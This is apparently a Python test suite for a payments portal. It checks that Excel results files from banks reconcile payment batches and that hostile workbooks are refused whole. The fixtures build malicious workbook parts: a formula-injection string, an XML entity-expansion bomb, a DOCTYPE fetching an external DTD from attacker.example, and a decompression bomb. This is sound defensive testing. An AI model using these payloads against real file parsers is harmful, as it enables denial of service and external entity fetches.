"""A bank's results as an Excel workbook: the same line-by-line checks as CSV; hostile workbooks refused whole."""

import io
import zipfile
from datetime import date

import pytest
from flask import current_app
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from sqlalchemy import func, select

from cases.audit import AuditEntry
from cases.operations import create_officer
from engine.db import db
from integrations.sandbox.paying_bank import results_lines, results_workbook
from payments import resultfile
from payments.models import Payment
from tests.integration.payment_support import take_uploads
from tests.integration.portal_helpers import PASSWORD, csrf_of, fresh_client, officer_login
from tests.integration.test_payment_results import batch, cycle, dispatched, file_of, upload  # noqa: F401
from tests.unit.integrations.test_sandbox_import_guards import LAUGHS

TODAY = date.today()


def workbook(lines):
    out = io.BytesIO()
    results_workbook(lines, out)
    return out.getvalue()


def rewrite(data, member, change):
    """The workbook's bytes with one part rewritten by change(bytes) -> bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            part = zin.read(info.filename)
            zout.writestr(info.filename, change(part) if info.filename == member else part)
    return out.getvalue()


def unchanged(batch_row):
    return (
        db.session.scalar(select(func.count()).where(Payment.batch_id == batch_row.id, Payment.status != "sent")) == 0
    )


def refused_reasons():
    return [
        e.detail["reason"]
        for e in db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "cycle.results_refused").order_by(AuditEntry.id)
        )
    ]


def test_an_excel_results_file_reconciles_the_batch_like_the_csv(svc, dispatched):
    bri = batch("BRI")
    lines = results_lines(file_of(bri), TODAY)
    row = upload(svc, bri, workbook(lines), dispatched["fin1"], name="hasil-bri.xlsx")
    assert (row.status, row.accepted, row.refused) == ("applied", bri.count, 0)
    assert batch("BRI").status == "reconciled"
    failed = db.session.scalar(select(func.count()).where(Payment.batch_id == bri.id, Payment.status == "failed"))
    assert failed == sum(1 for line in lines[1:] if ",FAILED," in line)
    # The same workbook again: every line a repeat, nothing changes twice.
    again = upload(svc, bri, workbook(lines), dispatched["fin1"], name="hasil-bri.xlsx")
    assert (again.accepted, again.repeated, again.refused) == (0, bri.count, 0)


def test_bad_rows_of_a_workbook_are_refused_one_by_one_with_their_row_numbers(svc, dispatched):
    bni = batch("BNI")
    good = results_lines(file_of(bni), TODAY)[1:]
    fields = [line.rstrip("\n").split(",") for line in good[:3]]
    book = Workbook(write_only=True)
    control = book.create_sheet("Kontrol")
    sheet = book.create_sheet("Hasil")
    rows = [
        fields[0],  # row 2: taken
        ["R", "PKH-TEST-T1-999999-1", fields[1][2], "CREDITED", "", TODAY.isoformat()],  # unknown
        fields[0],  # row 4: duplicate
        ["R", fields[1][1], int(fields[1][2]) + 1, "CREDITED", "", TODAY.isoformat()],  # amount
        ["R", '=HYPERLINK("x")', fields[2][2], "CREDITED", "", TODAY.isoformat()],  # text, not a formula
        ["R", "A,B", fields[2][2], "CREDITED", "", TODAY.isoformat()],  # a comma cannot shift the fields
        ["R", fields[2][1], fields[2][2], "MAYBE", "", TODAY.isoformat()],  # bad status
    ]
    sheet.append(["reference", "amount", "status", "failure_code", "date"])
    for r in rows:
        reference = WriteOnlyCell(sheet, r[1])
        reference.data_type = "s"  # text starting with "=" stays text here (a formula is refused whole, below)
        sheet.append([reference, int(r[2]), r[3], r[4] or None, date.fromisoformat(r[5])])
    control.append(["batch_reference", "count", "total"])
    control.append([bni.reference, len(rows), sum(int(r[2]) for r in rows)])
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    row = upload(svc, bni, data, dispatched["fin1"], name="hasil.xlsx")
    assert row.status == "applied", row.refusals
    assert [(r["line"], r["code"]) for r in row.refusals] == [
        (3, "UNKNOWN_REFERENCE"),
        (4, "DUPLICATE"),
        (5, "AMOUNT_MISMATCH"),
        (6, "MALFORMED"),
        (7, "MALFORMED"),
        (8, "BAD_STATUS"),
    ]
    assert row.accepted == 1 and batch("BNI").status == "partial"


def _formula(data):
    return rewrite(
        data,
        "xl/worksheets/sheet2.xml",
        lambda part: part.replace(b"</row>", b'<c r="F2"><f>1+1</f><v>2</v></c></row>', 2),
    )


def _error_value(data):
    return rewrite(
        data,
        "xl/worksheets/sheet2.xml",
        lambda part: part.replace(b"</row>", b'<c r="F2" t="e"><v>#REF!</v></c></row>', 2),
    )


def _laughs(data):
    def change(part):
        text = part.decode()
        declaration, _, body = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
        body = body.replace("</sheetData>", '<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>', 1)
        return ((declaration + "?>" if declaration else "") + LAUGHS + body).encode()

    return rewrite(data, "xl/worksheets/sheet2.xml", change)


def _dtd_in_content_types(data):
    return rewrite(
        data,
        "[Content_Types].xml",
        lambda part: part.replace(b"<Types", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><Types', 1),
    )


def _zip_bomb(data):
    return rewrite(
        data,
        "xl/worksheets/sheet2.xml",
        lambda part: part.replace(b"<sheetData>", b"<sheetData>" + b" " * (48 * 1024**2), 1),
    )


def _wide_row(data):
    cells = b"".join(b'<c r="A1"><v>1</v></c>' for _ in range(20000))
    return rewrite(
        data,
        "xl/worksheets/sheet2.xml",
        lambda part: part.replace(b"</sheetData>", b'<row r="9">' + cells + b"</row></sheetData>", 1),
    )


def _not_a_workbook(data):
    return b"PK\x03\x04 this is no zip at all" + b"\x00" * 100


def _text_named_xlsx(data):
    return b"H,PKH-TEST-T1-BRI,0,0\n"


def _old_binary_xls(data):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _zip_without_sheets(data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


def _other_layout(data):
    book = Workbook()
    book.active.append(["H", "PKH-TEST-T1-BRI", 1, 1])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _wrong_totals(data):
    return rewrite(
        data, "xl/worksheets/sheet1.xml", lambda part: part.replace(b'<c r="B2" t="n"><v>', b'<c r="B2" t="n"><v>9', 1)
    )


@pytest.mark.parametrize(
    "hostile, reason",
    [
        (_formula, "FORMULA"),
        (_error_value, "FORMULA"),
        (_laughs, "UNSAFE_WORKBOOK"),
        (_dtd_in_content_types, "UNSAFE_WORKBOOK"),
        (_zip_bomb, "UNSAFE_WORKBOOK"),
        (_wide_row, "TOO_MANY_ROWS"),
        (_not_a_workbook, "NOT_EXCEL"),
        (_text_named_xlsx, "NOT_EXCEL"),
        (_old_binary_xls, "NOT_EXCEL"),
        (_zip_without_sheets, "NOT_EXCEL"),
        (_other_layout, "BAD_LAYOUT"),
        (_wrong_totals, "CONTROL_TOTALS"),
    ],
)
def test_a_hostile_or_broken_workbook_is_refused_whole_and_changes_nothing(svc, dispatched, hostile, reason):
    bri = batch("BRI")
    data = hostile(workbook(results_lines(file_of(bri), TODAY)))
    row = upload(svc, bri, data, dispatched["fin1"], name="hasil.xlsx")
    assert (row.status, row.refusals[0]["code"]) == ("refused", reason)
    assert unchanged(bri) and batch("BRI").status == "dispatched"
    assert refused_reasons() == [reason]


def test_too_many_rows_and_too_much_xml_are_refused(svc, dispatched, monkeypatch):
    bri = batch("BRI")
    data = workbook(results_lines(file_of(bri), TODAY))
    monkeypatch.setattr(resultfile, "MAX_RESULT_ROWS", 5)
    assert upload(svc, bri, data, dispatched["fin1"], name="a.xlsx").refusals[0]["code"] == "TOO_MANY_ROWS"
    monkeypatch.setattr(resultfile, "MAX_RESULT_ROWS", 500_000)
    monkeypatch.setattr(resultfile, "MAX_WORKBOOK_INFLATED", 4096)
    assert upload(svc, bri, data, dispatched["fin1"], name="b.xlsx").refusals[0]["code"] == "TOO_LARGE"
    assert unchanged(bri)


def test_the_page_takes_an_excel_results_file_and_names_why_a_hostile_one_is_refused(svc, dispatched):
    bri = batch("BRI")
    good = workbook(results_lines(file_of(bri), TODAY))
    create_officer(db.session, "fin_web", "Fin Web", ["finance_officer"], None, password=PASSWORD)
    db.session.commit()
    with fresh_client() as client:
        assert officer_login(client, "fin_web").status_code == 302

        def send(data, name):
            page = client.get("/cycles/PKH-TEST-T1").get_data(as_text=True)
            client.post(
                "/cycles/PKH-TEST-T1/batches/BRI/results",
                data={"csrf_token": csrf_of(page), "results": (io.BytesIO(data), name)},
                content_type="multipart/form-data",
            )
            take_uploads(svc)  # checked and taken in the background (the in-process scheduler's work)
            return client.get("/cycles/PKH-TEST-T1").get_data(as_text=True)

        page = send(_laughs(good), "hasil.xlsx")
        assert "Berkas ditolak" in page or "ditolak" in page
        assert "tidak aman" in page and unchanged(bri)
        page = send(_formula(good), "hasil.xlsx")
        assert "berisi rumus" in page and unchanged(bri)
        assert 'accept=".csv,text/csv,.xlsx' in page  # the file picker offers workbooks too
        send(good, "hasil.xlsx")
        assert batch("BRI").status == "reconciled"


def test_the_command_line_takes_the_sandbox_banks_excel_answer(svc, dispatched, tmp_path):
    runner = current_app.test_cli_runner()
    bri = batch("BRI")
    batch_file, answer = tmp_path / "bri.csv", tmp_path / "hasil.xlsx"
    batch_file.write_text("".join(file_of(bri)))
    result = runner.invoke(args=["cycle", "sandbox-bank", str(batch_file), "--out", str(answer), "--xlsx"])
    assert result.exit_code == 0, result.output
    assert answer.read_bytes()[:2] == b"PK"
    result = runner.invoke(args=["cycle", "results", "PKH-TEST-T1", "BRI", str(answer), "--as", "fin1"])
    assert result.exit_code == 0, result.output
    assert f"taken {bri.count}" in result.output and "batch reconciled" in result.output
    answer.write_bytes(_formula(answer.read_bytes()))
    result = runner.invoke(args=["cycle", "results", "PKH-TEST-T1", "BRI", str(answer), "--as", "fin1"])
    assert "rumus" in result.output and "formulas" in result.output
